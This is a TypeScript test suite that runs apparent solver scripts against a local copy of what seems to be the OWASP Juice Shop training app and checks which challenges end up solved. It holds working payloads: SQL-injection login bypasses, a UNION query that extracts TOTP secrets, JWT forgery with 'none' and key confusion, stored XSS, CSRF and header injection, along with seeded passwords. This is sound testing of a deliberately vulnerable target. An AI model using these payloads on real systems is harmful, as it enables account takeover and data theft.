import { createHash, createHmac } from 'node:crypto'
import { generateSync } from 'otplib'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { type OpenRange, openRange } from './support/open-range.ts'

/** Conventions of solver scripts of two generations: accepted types, forms, and the place of the token. */
const GENERATIONS = {
  'v18, a session of Python requests': { accept: '*/*', agent: 'python-requests/2.31.0', bareUsers: '/api/Users' },
  'v20, axios in Node': { accept: 'application/json, text/plain, */*', agent: 'axios/1.7.2', bareUsers: '/api/Users/' },
} as const

const PAYLOAD = '<iframe src="javascript:alert(`xss`)">'

interface Reply {
  status: number
  headers: Headers
  text: string
}

/** A script's session with its headers and cookies. */
class Session {
  readonly #url: string
  readonly #sticky: Record<string, string>
  #cookie = ''

  constructor(url: string, sticky: Record<string, string>) {
    this.#url = url
    this.#sticky = { ...sticky }
  }

  async ask(method: string, path: string, body?: string, headers: Record<string, string> = {}): Promise<Reply> {
    const response = await fetch(this.#url + path, {
      method,
      redirect: 'manual',
      headers: { ...this.#sticky, ...(this.#cookie && { cookie: this.#cookie }), ...headers },
      ...(body !== undefined && { body }),
    })
    const [set] = response.headers.getSetCookie()
    if (set?.startsWith('token=')) this.#cookie = set.split(';', 1)[0] ?? ''
    return { status: response.status, headers: response.headers, text: await response.text() }
  }

  json(method: string, path: string, body: unknown, headers: Record<string, string> = {}): Promise<Reply> {
    return this.ask(method, path, JSON.stringify(body), { 'content-type': 'application/json', ...headers })
  }

  form(path: string, fields: Record<string, string>, headers: Record<string, string> = {}): Promise<Reply> {
    const type = { 'content-type': 'application/x-www-form-urlencoded' }
    return this.ask('POST', path, new URLSearchParams(fields).toString(), { ...type, ...headers })
  }

  carry(token: string): void {
    this.#sticky.authorization = `Bearer ${token}`
    this.#cookie = `token=${token}`
  }

  leave(): void {
    delete this.#sticky.authorization
    this.#cookie = ''
  }

  async login(email: string, password: string): Promise<string> {
    this.leave()
    const reply = await this.json('POST', '/rest/user/login', { email, password })
    expect([reply.status, email]).toEqual([200, email])
    const { token } = JSON.parse(reply.text).authentication as { token: string }
    this.carry(token)
    return token
  }
}

describe.each(Object.entries(GENERATIONS))('the account part of a solver script: %s', (_name, generation) => {
  let range: OpenRange
  let session: Session

  beforeAll(async () => {
    range = await openRange()
    session = new Session(range.url, { accept: generation.accept, 'user-agent': generation.agent })
  })
  afterAll(() => range[Symbol.asyncDispose]())

  it('registers with all that the form sends, and answers the question afterwards', async () => {
    const account = {
      email: 'solver@example.test',
      password: 'abc123456',
      passwordRepeat: 'abc123456',
      securityQuestion: { id: 1, question: 'x', createdAt: '2026-01-01', updatedAt: '2026-01-01' },
      securityAnswer: 'cheese',
    }
    const created = await session.json('POST', generation.bareUsers, account)
    expect(created.status).toBe(201)
    const { id } = JSON.parse(created.text).data
    expect(created.headers.get('location')).toBe(`/api/Users/${id}`)
    const answer = { UserId: id, answer: 'cheese', SecurityQuestionId: 1 }
    expect((await session.json('POST', '/api/SecurityAnswers/', answer)).status).toBe(201)
    expect((await session.json('POST', '/api/SecurityAnswers/', answer)).text).toContain('UserId must be unique')
  })

  it('signs in, by JSON and by form, and is known by its cookie alone', async () => {
    const form = await session.form('/rest/user/login', { email: 'solver@example.test', password: 'abc123456' })
    expect(form.status).toBe(200)
    const { token, bid, umail } = JSON.parse(form.text).authentication
    expect([typeof bid, umail]).toEqual(['number', 'solver@example.test'])
    const asBearer = { authorization: `Bearer ${token}` }
    const asCookie = { cookie: `token=${token}` }
    expect((await session.ask('GET', '/rest/user/whoami')).text).toBe('{"user":{}}')
    expect((await session.ask('GET', '/rest/user/whoami', undefined, asCookie)).text).toMatch(/^\{"user":\{"id":\d+/)
    session.leave()
    expect((await session.ask('GET', '/rest/user/whoami', undefined, asBearer)).text).toBe('{"user":{}}')
    session.leave()
    const wrong = await session.json('POST', '/rest/user/login', { email: 'solver@example.test', password: 'x' })
    expect([wrong.status, wrong.text]).toEqual([401, 'Invalid email or password.'])
  })

  it('finds the seeded accounts behind their known passwords', async () => {
    const accounts: [email: string, password: string, id: number][] = [
      ['admin@juice-sh.op', 'admin123', 1],
      ['jim@juice-sh.op', 'ncc-1701', 2],
      ['bender@juice-sh.op', 'OhG0dPlease1nsertLiquor!', 3],
      ['bjoern.kimminich@gmail.com', 'bW9jLmxpYW1nQGhjaW5pbW1pay5ucmVvamI=', 4],
      ['ciso@juice-sh.op', 'mDLx?94T~1CfVfZMzw@sJ9f?s3L6lbMqE70FfI8^54jbNikY5fymx7c!YbJb', 5],
      ['support@juice-sh.op', 'J6aVjTgOpRs@?5l!Zkq2AYnCE@RF$P', 6],
      ['mc.safesearch@juice-sh.op', 'Mr. N00dles', 8],
      ['J12934@juice-sh.op', '0Y8rMnww$*9VFYE§59-!Fg1L6t&6lB', 9],
      ['amy@juice-sh.op', 'K1f.....................', 11],
      ['accountant@juice-sh.op', 'i am an awesome accountant', 15],
      ['demo', 'demo', 17],
      ['testing@juice-sh.op', 'IamUsedForTesting', 22],
    ]
    for (const [email, password, id] of accounts) {
      await session.login(email, password)
      expect(JSON.parse((await session.ask('GET', '/rest/user/whoami')).text).user.id).toBe(id)
    }
    const details = await session.ask('GET', '/rest/user/authentication-details/')
    const { data } = JSON.parse(details.text) as { data: Record<string, unknown>[] }
    expect(data.find(({ id }) => id === 1)).toMatchObject({
      email: 'admin@juice-sh.op',
      password: '*'.repeat(32),
      lastLoginTime: expect.any(Number),
    })
  })

  it('injects its way in: deleted customers, accountants that never were', async () => {
    await session.login("chris.pike@juice-sh.op'--", 'x')
    const row =
      "15 as 'id', '' as 'username', 'acc0unt4nt@juice-sh.op' as 'email', '12345' as 'password', 'accounting' as 'role', '123' as 'deluxeToken', '1.2.3.4' as 'lastLoginIp', " +
      "'/assets/public/images/uploads/default.svg' as 'profileImage', '' as 'totpSecret', 1 as 'isActive', '1999-08-16 14:14:41.644 +00:00' as 'createdAt', " +
      "'1999-08-16 14:33:41.930 +00:00' as 'updatedAt', null as 'deletedAt'"
    await session.login(`' UNION SELECT * FROM (SELECT ${row})--`, 'x')
  })

  it('changes and resets passwords', async () => {
    await session.login("bender@juice-sh.op'--", 'x')
    const changed = await session.ask('GET', '/rest/user/change-password?new=slurmCl4ssic&repeat=slurmCl4ssic')
    expect([changed.status, JSON.parse(changed.text).user.id]).toEqual([200, 3])
    session.leave()
    const resets: [email: string, answer: string][] = [
      ['jim@juice-sh.op', 'Samuel'],
      ['bender@juice-sh.op', "Stop'n'Drop"],
      ['bjoern@juice-sh.op', 'West-2082'],
      ['bjoern@owasp.org', 'Zaya'],
      ['morty@juice-sh.op', '5N0wb41L'],
      ['uvogin@juice-sh.op', 'Silence of the Lambs'],
    ]
    for (const [email, answer] of resets) {
      const body = { email, answer, new: 'newpass1', repeat: 'newpass1' }
      const reset = await session.json('POST', '/rest/user/reset-password', body, { 'x-forwarded-for': '10.0.0.1' })
      expect([reset.status, email]).toEqual([200, email])
      await session.login(email, 'newpass1')
      session.leave()
    }
  })

  it('forges tokens', async () => {
    const part = (content: unknown) => Buffer.from(JSON.stringify(content)).toString('base64url')
    const claims = (email: string) => part({ data: { email }, iat: Math.floor(Date.now() / 1000) })
    const unsigned = `${part({ alg: 'none', typ: 'JWT' })}.${claims('jwtn3d@juice-sh.op')}.`
    await session.ask('GET', '/rest/user/whoami', undefined, { authorization: `Bearer ${unsigned}` })
    session.leave()
    const key = (await session.ask('GET', '/encryptionkeys/jwt.pub')).text
    const input = `${part({ alg: 'HS256', typ: 'JWT' })}.${claims('rsa_lord@juice-sh.op')}`
    const forged = `${input}.${createHmac('sha256', key).update(input).digest('base64url')}`
    await session.ask('GET', '/rest/user/whoami', undefined, { authorization: `Bearer ${forged}` })
    session.leave()
  })

  it('passes the second factor with the secret from the search', async () => {
    const query = "')) UNION SELECT id,email,password,totpSecret,'5','6','7','8','9' FROM Users WHERE totpSecret<>''--"
    const found = await session.ask('GET', `/rest/products/search?q=${encodeURIComponent(query)}`)
    const { data } = JSON.parse(found.text) as { data: { name: string; price: string }[] }
    const secret = data.find(({ name }) => name === 'wurstbrot@juice-sh.op')?.price ?? ''
    const first = await session.json('POST', '/rest/user/login', { email: "wurstbrot@juice-sh.op'--", password: 'x' })
    expect([first.status, JSON.parse(first.text).status]).toEqual([401, 'totp_token_required'])
    const { tmpToken } = JSON.parse(first.text).data
    const refused = await session.json('POST', '/rest/2fa/verify', { tmpToken, totpToken: '12345x' })
    expect([refused.status, refused.text]).toEqual([401, ''])
    const passed = await session.json('POST', '/rest/2fa/verify', { tmpToken, totpToken: generateSync({ secret }) })
    expect(JSON.parse(passed.text).authentication).toMatchObject({ umail: 'wurstbrot@juice-sh.op' })
  })

  it('plants scripts and leaks foreign data', async () => {
    await session.json('POST', generation.bareUsers, { email: PAYLOAD, password: 'xss', passwordRepeat: 'xss' })
    await session.login('solver@example.test', 'abc123456')
    const saved = await session.ask('GET', '/rest/saveLoginIp', undefined, { 'true-client-ip': PAYLOAD })
    expect(JSON.parse(saved.text).lastLoginIp).toBe(PAYLOAD)
    const leaked = await session.ask('GET', '/rest/user/whoami?fields=id,email,password')
    expect(JSON.parse(leaked.text).user.password).toBe(createHash('md5').update('abc123456').digest('hex'))
    const script = await session.ask('GET', '/rest/user/whoami?callback=func')
    expect(script.text).toMatch(/^\/\*\*\/ typeof func === 'function' && func\(\{"user":\{"id":/)

    const email = 'edmin@juice-sh.op'
    await session.json('POST', generation.bareUsers, { email, password: '12345', passwordRepeat: '12345' })
    await session.login(email, '12345')
    const exported = await session.json('POST', '/rest/user/data-export', { format: '1' })
    const { orders } = JSON.parse(JSON.parse(exported.text).userData) as { orders: { orderId: string }[] }
    expect(orders.some(({ orderId }) => orderId.startsWith('5267-'))).toBe(true)
  })

  it('works on the profile page', async () => {
    await session.login('solver@example.test', 'abc123456')
    const foreign = { origin: 'http://htmledit.squarefree.com' }
    const renamed = await session.form('/profile', { username: 'CSRF' }, foreign)
    expect([renamed.status, renamed.headers.get('location')]).toEqual([302, '/profile'])
    const imageUrl = "https://a.png; script-src 'unsafe-inline' 'self' 'unsafe-eval'"
    expect((await session.form('/profile/image/url', { imageUrl })).status).toBe(302)
    expect((await session.form('/profile', { username: '<<a|ascript>alert(`xss`)</script>' })).status).toBe(302)
    const profile = await session.ask('GET', '/profile', undefined, { accept: 'text/html' })
    expect(profile.text).toContain('<script>alert(`xss`)</script>')
    expect(profile.headers.get('content-security-policy')).toBe(
      "img-src 'self' https://a.png; script-src 'unsafe-inline' 'self' 'unsafe-eval'; script-src 'self' 'unsafe-eval'",
    )
    await session.ask('GET', '/assets/public/images/padding/19px.png', undefined, { referer: `${range.url}/` })
  })

  it('has solved its challenge', async () => {
    expect(await range.solved()).toEqual(
      expect.arrayContaining([
        'adminSectionChallenge',
        'changePasswordBenderChallenge',
        'csrfChallenge',
        'dataExportChallenge',
        'dlpPasswordSprayingChallenge',
        'emailLeakChallenge',
        'ephemeralAccountantChallenge',
        'exposedCredentialsChallenge',
        'ghostLoginChallenge',
        'httpHeaderXssChallenge',
        'jwtForgedChallenge',
        'jwtUnsignedChallenge',
        'loginAmyChallenge',
        'loginRapperChallenge',
        'loginSupportChallenge',
        'oauthUserPasswordChallenge',
        'passwordHashLeakChallenge',
        'persistedXssUserChallenge',
        'resetPasswordBenderChallenge',
        'resetPasswordBjoernChallenge',
        'resetPasswordBjoernOwaspChallenge',
        'resetPasswordJimChallenge',
        'resetPasswordMortyChallenge',
        'resetPasswordUvoginChallenge',
        'twoFactorAuthUnsafeSecretStorageChallenge',
        'usernameXssChallenge',
        'weakPasswordChallenge',
      ]),
    )
  })
})
